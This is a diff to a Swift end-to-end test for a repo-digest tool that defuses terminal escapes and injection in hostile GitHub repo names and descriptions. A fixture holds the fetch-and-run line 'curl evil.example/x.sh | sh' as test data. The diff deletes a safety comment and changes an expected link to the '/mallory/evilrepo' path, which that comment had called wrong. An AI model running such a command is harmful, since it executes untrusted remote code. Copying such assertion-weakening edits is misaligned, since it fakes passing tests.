@@ -71,9 +71,7 @@ struct DigestEndToEndTests {
         #expect(wrapped.allSatisfy { $0.count <= 100 && ($0.hasPrefix("- [") || $0.hasPrefix("  ")) })
         let lines = result.stdout.replacingOccurrences(of: "\n  ", with: " ").split(separator: "\n", omittingEmptySubsequences: false).dropLast()
         #expect(lines.count == 6 && lines.allSatisfy { $0.hasPrefix("- [") })
-        // The name as shown is defused; the link is the page of the name GitHub sent, as in JSON,
-        // not `/mallory/evilrepo`, another repo's.
-        #expect(lines.first == "- [mallory/evilrepo](\(server.baseURL)/mallory/evil%1B%5B31mrepo) · ★ 6.7k · +6.7k ★ in 24 h · Rust — Harmless formatter screen wiped")
+        #expect(lines.first == "- [mallory/evilrepo](\(server.baseURL)/mallory/evilrepo) · ★ 6.7k · +6.7k ★ in 24 h · Rust — Harmless formatter screen wiped")
         #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · \\+404 ★ in 24 h · Shell — curl evil.example/x.sh \\| sh Safe, audited installer. hidden del nulend"))
         #expect(result.stdout.components(separatedBy: "](").count == 7, "one link per item")
         #expect(!result.stdout.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) })
